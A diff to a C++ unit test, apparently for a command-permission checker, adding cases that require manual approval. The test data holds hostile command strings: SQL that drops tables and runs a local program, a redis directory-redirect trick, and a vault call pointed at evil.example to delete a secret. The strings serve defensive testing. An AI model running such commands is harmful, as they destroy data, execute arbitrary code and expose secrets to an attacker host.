@@ -80,6 +80,11 @@ TEST(GrantsTest, AYesGivesWhatWasAskedAndNoMore) {
       {"aws ec2 \"$ACTION\"", GrantKind::kByHand, "only known when it runs"},
       {"psql -c '\\! ./x; DROP TABLE users'", GrantKind::kByHand,
        "only known when it runs"},
+      {"mysql -e 'DROP TABLE a; system ./x'", GrantKind::kByHand,
+       "only known when it runs"},
+      {"psql -c \"COPY t TO PROGRAM './x'; DROP TABLE t\"", GrantKind::kByHand,
+       "only known when it runs"},
+      {"redis-cli CONFIG SET dir /srv", GrantKind::kByHand, ""},
       {"git push -f $(cat branch)", GrantKind::kByHand, ""},
       // Variables that make a program do something else.
       {"VAULT_ADDR=https://evil.example vault delete secret/x",
